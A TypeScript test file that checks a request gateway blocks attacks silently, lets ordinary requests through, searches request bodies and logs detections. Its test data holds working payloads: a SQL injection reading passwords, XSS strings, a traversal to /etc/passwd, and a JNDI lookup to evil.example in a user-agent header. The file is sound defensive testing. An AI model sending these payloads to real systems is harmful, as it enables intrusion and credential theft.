import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { type Gateway, startGateway } from '../support/gateway.ts';

let gateway: Gateway;
let headers: { readonly authorization: string };
before(async () => {
  gateway = await startGateway();
  headers = { authorization: `Bearer ${await gateway.token('alice')}` };
});
after(() => gateway?.stop());

const injection = "' union select password from users--";
const attacks: Readonly<
  Record<string, { readonly path: string; readonly headers?: Readonly<Record<string, string>> }>
> = {
  'SQL in a parameter': { path: `/orders?id=${encodeURIComponent(injection)}` },
  'SQL in two layers of percent-encoding': { path: `/orders?id=${encodeURIComponent(encodeURIComponent(injection))}` },
  'a script in full-width signs': { path: `/orders?q=${encodeURIComponent('＜script＞alert(1)＜/script＞')}` },
  'a traversal in a parameter': { path: '/orders?file=../../../../etc/passwd' },
  'a lookup in the user agent': {
    path: '/orders',
    headers: { 'user-agent': '$'.concat('{jndi:ldap://evil.example/a}') },
  },
  'a script in a cookie': { path: '/orders', headers: { cookie: 'theme=<script>alert(1)</script>' } },
};

for (const [name, attack] of Object.entries(attacks)) {
  test(`${name} is refused, and the caller is told nothing of it`, async () => {
    const { status, body } = await gateway.send({ path: attack.path, headers: { ...headers, ...attack.headers } });
    assert.equal(status, 403);
    assert.ok(!/sqli|xss|select|script|attack/.test(String(body)), String(body));
  });
}

test('more layers of encoding than are looked through are refused', async () => {
  assert.equal((await gateway.send({ path: '/orders?id=%25252541', headers })).status, 400);
});

test('ordinary requests pass', async () => {
  for (const path of ['/orders', '/orders?q=blue+running+shoes&name=Conan+O%27Brien&from=2026-01-01']) {
    assert.equal((await gateway.send({ path, headers })).status, 200, path);
  }
});

test('a body is searched: an attack in it goes no further', async () => {
  const post = async (item: string) => {
    const body = JSON.stringify({ item, quantity: 1 });
    const type = { 'content-type': 'application/json' };
    return (await gateway.send({ method: 'POST', path: '/orders', headers: { ...headers, ...type }, body })).status;
  };
  assert.equal(await post('lamp'), 201);
  assert.equal(await post(injection), 403);
});

test('the audit has the rules, the place and an excerpt', async () => {
  const lines = (await gateway.audit()).map((line) => JSON.stringify(line));
  assert.ok(
    lines.some((line) => line.includes('attack_detected') && line.includes('query.id') && line.includes('sqli')),
  );
});
